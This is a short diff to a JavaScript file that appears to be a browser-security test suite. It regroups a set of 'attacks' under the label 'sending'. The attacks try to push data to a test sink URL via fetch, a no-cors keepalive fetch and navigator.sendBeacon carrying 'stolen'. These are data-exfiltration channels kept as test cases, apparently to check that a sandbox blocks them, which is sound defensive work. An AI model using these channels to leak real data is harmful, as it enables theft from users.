@@ -16,7 +16,7 @@ const sentBy =
   /** @param {{ sink: string }} places */ async ({ sink }) =>
     (await added(tag, attributes(`${sink}/${tag}`))).tagName;
 
-addAttacks({
+addAttacks("sending", {
   sendsByFetch: async ({ sink }) => (await fetch(`${sink}/fetch`)).status,
   sendsByBlindFetch: async ({ sink }) => (await fetch(`${sink}/blind`, { mode: "no-cors", keepalive: true })).type,
   sendsByBeacon: ({ sink }) => sentBlindly(() => navigator.sendBeacon(`${sink}/beacon`, "stolen"))(),
